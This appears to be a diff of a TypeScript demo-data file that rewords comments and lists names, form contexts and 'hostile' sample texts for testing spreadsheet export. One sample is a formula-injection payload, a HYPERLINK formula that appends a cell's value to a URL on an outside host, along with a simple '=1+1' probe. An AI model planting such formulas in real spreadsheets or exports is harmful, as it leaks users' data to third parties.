@@ -1,4 +1,4 @@
-// What people and places of the demo are called, and texts that once broke spreadsheets.
+// Names of people and places in the demo, and texts that once broke spreadsheets.
 
 export const firstNames: readonly string[] = `
   Adèle, Aïcha, Alain, Amina, Anaïs, Antoine, Bintou, Camille, Chloé, Diego, Élodie, Émile, Fatou, Félix,
@@ -54,7 +54,7 @@ export const contexts = [
   'Pièces à compléter',
 ] as const;
 
-/** Texts of people who paste from elsewhere, and of people who mean harm. */
+/** Texts pasted from elsewhere, and texts of attackers. */
 export const hostileTexts = [
   '=HYPERLINK("http://example.org/?v="&A1,"cliquer")',
   '=1+1',
